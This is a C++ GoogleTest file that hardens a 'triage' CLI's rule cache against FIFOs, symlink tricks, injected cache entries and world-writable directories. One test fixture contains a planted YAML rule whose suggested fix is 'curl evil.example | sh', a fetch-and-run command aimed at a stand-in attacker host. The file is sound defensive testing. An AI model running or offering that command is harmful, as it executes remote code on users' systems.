// The rule cache against planted files (issue 14, Note: [Cache hardening] in rules/rule_cache.h): a
// FIFO, a symlink to /dev/zero, a symlink at the temporary name, an entry built from other rule files,
// and a directory others may write. Each runs the `triage` binary under `timeout`, so an attack that
// worked shows as a hang (status 124) or a crash instead of stopping the test binary.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "cli_support.h"

namespace {

using namespace triage_test;
namespace fs = std::filesystem;

class CacheHardening : public ::testing::Test {
 protected:
  CacheHardening() : scratch_("triage_cache_hardening"), cache_(scratch_.path + "/cache") {}

  // `triage rules list` with the test's private rules and `cache` as the cache directory.
  ShellResult List(const std::string& cache, const std::string& more_rules = "") {
    std::string extra = more_rules.empty() ? "" : " --rules " + more_rules;
    return Shell("timeout 60 env TRIAGE_CACHE_DIR=" + cache + " NO_COLOR=1 TRIAGE_RULES_PATH= " + kBin +
                 " rules list --origin --no-bundled --rules " + RuleDir() + extra + " 2>&1");
  }

  // The entries in the cache directory.
  std::vector<fs::path> Entries(const std::string& cache) {
    std::vector<fs::path> out;
    for (const auto& e : fs::directory_iterator(cache)) {
      if (e.path().filename().string().rfind("rules-", 0) == 0) out.push_back(e.path());
    }
    return out;
  }

  // Fills the cache; returns the one entry's path.
  fs::path Fill() {
    ShellResult r = List(cache_);
    EXPECT_EQ(r.status, 0) << r.out;
    std::vector<fs::path> entries = Entries(cache_);
    EXPECT_EQ(entries.size(), 1u);
    return entries.empty() ? fs::path() : entries[0];
  }

  // An entry built from the test's rules plus one injected rule, in a cache of its own.
  fs::path EvilEntry() {
    const std::string evil = scratch_.path + "/evil";
    fs::create_directories(evil);
    std::ofstream(evil + "/evil-advice.yaml") << R"(id: evil-advice
category: cuda.oom
title: Injected rule
match:
  message: 'mat1 and mat2 shapes cannot be multiplied'
explain: 'e'
hypotheses:
  - id: h
    text: t
    test: t
    fix: 'curl evil.example | sh'
verify: v
examples:
  - match: 'mat1 and mat2 shapes cannot be multiplied'
)";
    const std::string other = scratch_.path + "/other-cache";
    ShellResult with_evil = List(other, evil);
    EXPECT_NE(with_evil.out.find("evil-advice"), std::string::npos) << with_evil.out;
    std::vector<fs::path> entries = Entries(other);
    EXPECT_EQ(entries.size(), 1u);
    return entries.empty() ? fs::path() : entries[0];
  }

  TempDir scratch_;
  std::string cache_;
};

TEST_F(CacheHardening, TheDirectoryIsCreatedPrivate) {
  Fill();
  struct stat st;
  ASSERT_EQ(stat(cache_.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0700u);
}

TEST_F(CacheHardening, AFifoEntryIsAMissNotAHang) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  fs::remove(entry);
  ASSERT_EQ(mkfifo(entry.c_str(), 0600), 0);
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_EQ(r.out, plain);
}

TEST_F(CacheHardening, ASymlinkToDevZeroIsAMiss) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  fs::remove(entry);
  fs::create_symlink("/dev/zero", entry);
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out.substr(0, 500);
  EXPECT_EQ(r.out, plain);
}

TEST_F(CacheHardening, ASymlinkAtAnEntryNameNeverWritesItsTarget) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  const std::string victim = scratch_.path + "/victim.txt";
  std::ofstream(victim) << "precious\n";
  // The entry's own name, and the temporary names the writer used to derive from its process id.
  fs::remove(entry);
  fs::create_symlink(victim, entry);
  for (int pid = 2; pid < 4096; ++pid) fs::create_symlink(victim, entry.string() + ".tmp" + std::to_string(pid));
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_EQ(r.out, plain);
  EXPECT_TRUE(ReadFile(victim) == "precious\n") << "the symlink's target was written";
}

TEST_F(CacheHardening, AnEntryBuiltFromOtherRuleFilesInjectsNothing) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  fs::copy_file(EvilEntry(), entry, fs::copy_options::overwrite_existing);
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_EQ(r.out.find("evil-advice"), std::string::npos) << r.out;
  EXPECT_EQ(r.out, plain);
}

// The rule files' parts (Note: [Rule parts]), read when the whole-set entry misses, get the same checks.
TEST_F(CacheHardening, AFifoPartsFileIsAMissNotAHang) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  const std::string parts = cache_ + "/rule-parts.bin";
  ASSERT_TRUE(fs::exists(parts));
  fs::remove(entry);
  fs::remove(parts);
  ASSERT_EQ(mkfifo(parts.c_str(), 0600), 0);
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_EQ(r.out, plain);
}

TEST_F(CacheHardening, APartsFileBuiltFromOtherRuleFilesInjectsNothing) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  // The other cache's parts file holds the injected rule's part (and parts of the test's own rules).
  const std::string evil_parts = EvilEntry().parent_path().string() + "/rule-parts.bin";
  ASSERT_NE(ReadFile(evil_parts).find("evil-advice"), std::string::npos);
  fs::remove(entry);
  fs::copy_file(evil_parts, cache_ + "/rule-parts.bin", fs::copy_options::overwrite_existing);
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_EQ(r.out.find("evil-advice"), std::string::npos) << r.out;
  EXPECT_EQ(r.out, plain);
}

TEST_F(CacheHardening, ADirectoryOthersMayWriteIsNotUsed) {
  fs::path entry = Fill();
  std::string plain = List(cache_).out;
  // What a writer with access to the directory could plant: the other rules' payload under this
  // key's header. In a directory others may write, it is neither read nor replaced.
  const std::string mine = ReadFile(entry.string()), evil = ReadFile(EvilEntry().string());
  auto header_end = [](const std::string& b) { return b.find('\n', b.find('\n') + 1) + 1; };
  std::ofstream(entry, std::ios::binary | std::ios::trunc)
      << mine.substr(0, header_end(mine)) << evil.substr(header_end(evil));
  ASSERT_EQ(chmod(cache_.c_str(), 0777), 0);
  const std::string planted = ReadFile(entry.string());
  ShellResult r = List(cache_);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_EQ(r.out.find("evil-advice"), std::string::npos) << r.out;
  EXPECT_EQ(r.out, plain);
  EXPECT_TRUE(ReadFile(entry.string()) == planted) << "nothing is written into a directory others may write";
}

}  // namespace
